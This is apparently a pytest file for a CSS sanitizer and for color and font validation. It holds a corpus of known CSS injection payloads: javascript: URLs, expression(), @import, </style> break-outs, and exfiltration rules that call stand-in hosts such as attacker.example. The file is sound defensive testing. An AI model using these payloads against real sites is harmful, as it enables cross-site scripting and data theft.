"""Safe CSS (plugins/themes/css.py): custom CSS rebuilt from an allowlist, against a corpus of
known CSS injection payloads (OWASP's XSS filter evasion cheat sheet, html5sec.org, PortSwigger's
CSS exfiltration research), each checked re-parsed and as text with its escapes decoded; and the
color and font validation."""

from __future__ import annotations

import pytest

from plugins.themes.css import parse_color, parse_font_family, sanitize_css
from tests.plugins.themes.support import dangers

# (where it comes from, the payload)
CORPUS = [
    ("OWASP background-image javascript:", "body { background-image: url(\"javascript:alert('XSS')\"); }"),
    ("OWASP unquoted javascript: url", "body { background: url(javascript:alert(1)) }"),
    ("OWASP IE expression()", "div { width: expression(alert('XSS')); }"),
    ("OWASP expression broken by a comment", "div { xss: expr/*XSS*/ession(alert('XSS')); }"),
    ("OWASP comment inside a value", "div { width: exp/**/ression(alert(1)); color: red }"),
    ("hex escape of expression", "div { width: \\65 xpression(alert(1)); }"),
    ("escapes of plain letters", "div { w\\idth: ex\\pression(alert(1)) }"),
    ("OWASP behavior .htc", "body { behavior: url(xss.htc); }"),
    ("OWASP -moz-binding", "body { -moz-binding: url(\"http://ha.ckers.org/xssmoz.xml#xss\") }"),
    ("OWASP @import", "@import 'http://ha.ckers.org/xss.css'; a { color: red }"),
    ("OWASP broken-up @import", "@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';"),
    ("</style> break-out", "a { color: red } </style><script>alert(1)</script>"),
    ("</STYLE> break-out with an img", "a { color: red } </STYLE><IMG SRC=x onerror=alert(1)>"),
    ("@charset UTF-7", "@charset \"UTF-7\"; +ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("OWASP list-style-image", "li { list-style-image: url(\"javascript:alert('XSS')\"); }"),
    ("data: SVG", "body { background: url(data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) }"),
    ("PortSwigger attribute exfiltration",
     "input[value^=\"a\"] { background: url(https://attacker.example/leak?a) }"),
    ("@font-face unicode-range exfiltration",
     "@font-face { font-family: x; src: url(https://attacker.example/x.woff); unicode-range: U+0041; }"),
    ("protocol-relative url", "a { background: url(//attacker.example/x.png) }"),
    ("universal expression", "*{ x: expression(alert(1)) }"),
    ("escaped url function", "div { background-image: \\75\\72\\6c(javascript:alert(1)) }"),
    ("vbscript:", "div { color: red; background: url('vbscript:msgbox(1)') }"),
    ("@namespace", "@namespace url(http://attacker.example); a{color:red}"),
    ("@import hidden by comments", "a { color: red; } /* */ @import url(//evil.example); /*"),
    ("escaped newline in a string", "div{ background:url(\"javas\\\ncript:alert(1)\") }"),
    ("break-out in a selector", "a {} </style ><svg onload=alert(1)>"),
    ("html5sec Opera -o-link", "div { -o-link: 'javascript:alert(1)'; -o-link-source: current }"),
    ("image-set()", "div { background-image: image-set(\"https://evil.example/x.png\" 1x) }"),
    ("content with a break-out", "div::after { content: \"</style><script>alert(1)</script>\" }"),
    ("@import inside @media", "@media screen { @import url(//evil.example); body { background: url(//evil.example) } }"),
    ("HTML comment trick", "<!--<style>--></style><script>alert(1)</script>"),
    ("escaped javascript in a url string", "div { background: url( \"\\6a avascript:alert(1)\" ) }"),
    ("closing brace then break-out", "a{color:red;}}</style><script>alert(1)</script>"),
    ("cursor url", "x{cursor:url(https://evil.example/c.cur),auto}"),
    ("custom property carrying a url", "a { --x: url(https://evil.example); background: var(--x) }"),
    ("IE filter progid", "div { filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src='javascript:alert(1)') }"),
    ("escaped @import keyword", "@\\69mport url(//evil.example); a { color: blue }"),
    ("escape of </style> in a selector", "a\\3c /style\\3e { color: red }"),
    ("escaped quote breaking a string", "a { font-family: \"x\\\"; } body { background: url(//evil.example) } \" }"),
    ("unparseable garbage", "}}}{{{ color: red ; @@@ !!! expression("),
]


@pytest.mark.parametrize("source, payload", CORPUS, ids=[source for source, _ in CORPUS])
def test_no_injection_payload_survives(source, payload):
    result = sanitize_css(payload)
    assert dangers(result.css) == [], (payload, result.css)
    assert result.removed, payload  # and the admin is told what went


def test_the_corpus_is_at_least_twenty_known_payloads():
    assert len(CORPUS) >= 20 and len({payload for _, payload in CORPUS}) == len(CORPUS)


def test_the_whole_corpus_at_once_leaves_only_the_harmless_rules():
    result = sanitize_css("\n".join(payload for _, payload in CORPUS))
    assert dangers(result.css) == [], result.css


def test_allowed_css_is_kept_and_rebuilt():
    result = sanitize_css("""
        /* the brand */
        .custom { color: red; }
        .btn-primary:hover, a[data-kind="cta"] > span::before {
            background-color: rgba(0, 0, 0, .5) !important;
            border: 1px solid var(--theme-primary-color);
            padding: calc(1rem + 2px) 4px;
            font: italic bold 12px/1.5 "Open Sans", sans-serif;
            background-image: url("/api/v1/themes/x/logo");
        }
        li:nth-child(2n+1) { margin: 0 auto }
        @media screen and (max-width: 600px) { .custom { font-size: 14px } }
    """)
    assert result.removed == []
    assert ".custom {\n  color: red;\n}\n" in result.css
    assert "background-color: rgba(0, 0, 0, .5) !important;" in result.css
    assert 'font: italic bold 12px/1.5 "Open Sans", sans-serif;' in result.css
    assert 'background-image: url("/api/v1/themes/x/logo");' in result.css
    assert "li:nth-child(2n +1) {" in result.css  # the same An+B, spelt without a comment
    assert "@media screen and (max-width: 600px) {\n  .custom {\n    font-size: 14px;\n  }\n}\n" in result.css
    assert dangers(result.css) == []
    assert sanitize_css(result.css).css == result.css  # stable: sanitizing twice changes nothing


def test_a_dangerous_declaration_goes_and_its_neighbours_stay():
    result = sanitize_css("a { color: red; width: expression(alert(1)); position: fixed; margin: 0 }")
    assert result.css == "a {\n  color: red;\n  margin: 0;\n}\n"
    assert any("expression" in reason for reason in result.removed)
    assert any("'position'" in reason for reason in result.removed)


def test_deep_nesting_is_refused_not_a_crash():
    result = sanitize_css("a { width: " + "calc(" * 5000 + "1px" + ")" * 5000 + "; color: red }")
    assert result.css == "a {\n  color: red;\n}\n" and any("nested" in reason for reason in result.removed)


@pytest.mark.parametrize("given, normalised", [
    ("#ABC", "#abc"), ("#11223344", "#11223344"), ("rgb(255,0,0)", "rgb(255, 0, 0)"),
    ("RGBA(0 0 0 / 50%)", "rgba(0, 0, 0, 0.5)"), ("rgb(100%, 0%, 50%)", "rgb(100%, 0%, 50%)"),
    ("hsl(210deg, 40%, 50%)", "hsl(210, 40%, 50%)"), ("hsla(0, 0%, 100%, .5)", "hsla(0, 0%, 100%, 0.5)"),
    ("rgb(1, 2, 3, 1)", "rgba(1, 2, 3, 1)"),
])
def test_colors_are_normalised(given, normalised):
    assert parse_color(given) == normalised


@pytest.mark.parametrize("bad, says", [
    ("red", "not a color"), ("#12345", "not a color"), ("rgb(300, 0, 0)", "red 300 is outside 0-255"),
    ("hsl(400, 50%, 50%)", "hue 400 is outside 0-360"), ("rgb(1, 2)", "3 components"),
    ("hsl(10, 50, 50%)", "saturation '50' must be a percentage"), ("rgba(0, 0, 0, 2)", "alpha 2 is outside 0-1"),
    ("rgb(1e3, 0, 0)", "not a number"), ("javascript:alert(1)", "not a color"),
    ("#fff;} body { background: url(//evil)", "not a color"), ("expression(alert(1))", "not a color"),
    ("rgb(-1, 0, 0)", "outside 0-255"), ("hsl(10, 50%, 101%)", "lightness 101 is outside 0-100"),
])
def test_bad_colors_say_why(bad, says):
    with pytest.raises(ValueError) as error:
        parse_color(bad)
    assert says in str(error.value)


def test_font_families():
    assert parse_font_family("Inter, 'Open Sans', SANS-SERIF") == '"Inter", "Open Sans", sans-serif'
    for bad in ("x; } body { background: url(//evil)", "a</style>", "\"x\\\"", "expression", "a," * 11 + "b", ""):
        with pytest.raises(ValueError):
            parse_font_family(bad)
